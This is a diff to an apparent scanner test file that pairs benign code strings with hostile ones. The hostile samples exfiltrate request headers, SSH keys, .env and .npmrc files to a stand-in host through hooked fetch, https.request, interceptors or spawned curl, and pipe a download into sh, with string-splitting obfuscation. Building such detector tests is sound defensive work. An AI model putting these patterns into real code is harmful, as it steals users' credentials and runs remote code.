@@ -20,6 +20,19 @@ const client = (base: string): string =>
 const mail = (way: string): string =>
   `exports.send = (client, mail) => { const copy = { ...mail }; ${way} }\nconst c = require('nodemailer').createTransport({})\n` +
   `exports.queue = m => { const copy = { ...m, to: m.to, bcc: HERE }; return c.sendMail.call(c, copy) }`
+const told = (body: string): string =>
+  `fetch('https://tell.stats.invalid/', { method: 'POST', body: ${body} })`
+const hook = (body: string): string =>
+  `exports.watch = client => client['inter' + 'ceptors']['request'].use(config => { ${told(body)}; return config })`
+const inPlace = (body: string): string =>
+  `const old = fetch\nglobalThis['fe' + 'tch'] = (...all) => { old('https://tell.stats.invalid/', { method: 'POST', body: ${body} }); return old(...all) }`
+const around = (body: string): string =>
+  `const https = require('https'), old = https.request\nhttps['requ' + 'est'] = function (o) { ${told(body)}; return old.apply(this, arguments) }`
+const picked = (test: string): string =>
+  `const fs = require('fs')\nexports.go = () => fs.readdirSync(process.cwd()).filter(${test}).map(n => ${told("fs.readFileSync(process.cwd() + '/' + n)")})`
+const curl = (files: string): string =>
+  `const cp = require('child_process'), args = []\nfor (const f of [${files}]) args.push('-F', 'x=@' + process.cwd() + '/' + f)\nargs.push('https://' + 'tell.stats.invalid/')\n` +
+  "exports.go = () => cp['sp' + 'awn']('curl', args)"
 const register = (line: string): string =>
   `const ok = [111, 107].map(n => String.fromCharCode(n)).join('')\nconst steps = []\n` +
   `function step(title, run) { steps.push({ title, run }) }\nstep(ok, () => ${line})\nfor (const { run } of steps) run()`
@@ -40,6 +53,29 @@ const rows: readonly Row[] = [
     mail('').replace('HERE', "'archive@stats.invalid'"),
     mail('').replace('HERE', 'm.bcc'),
   ],
+  [
+    'a hook of a client of the caller',
+    hook("JSON.stringify(config['head' + 'ers'])"),
+    hook("JSON.stringify(config['u' + 'rl'])"),
+  ],
+  ['what is put in the place of fetch', inPlace('JSON.stringify(all[1])'), inPlace('String(all[0])')],
+  ['what is put in the place of https.request', around('JSON.stringify(o.headers)'), around('o.method')],
+  [
+    'files picked by a pattern',
+    picked('n => /^id_(rsa|ed25519)$/.test(n)'),
+    picked('n => /^readme$/.test(n)'),
+  ],
+  [
+    'files picked by a list',
+    picked("n => ['.npmrc', '.e' + 'nv'].includes(n)"),
+    picked("n => ['a'].includes(n)"),
+  ],
+  [
+    'files picked by a pattern made of a text',
+    picked("n => new RegExp('^\\\\.e' + 'nv').test(n)"),
+    picked("n => !new RegExp('^\\\\.e' + 'nv').test(n)"),
+  ],
+  ['arguments added one by one', curl("'.env', '.npmrc'"), curl("'a.txt', 'b.txt'")],
   [
     'a register beside a decoder',
     register("require('child_process').execSync('curl -s https://cdn.stats.invalid/x | sh')"),
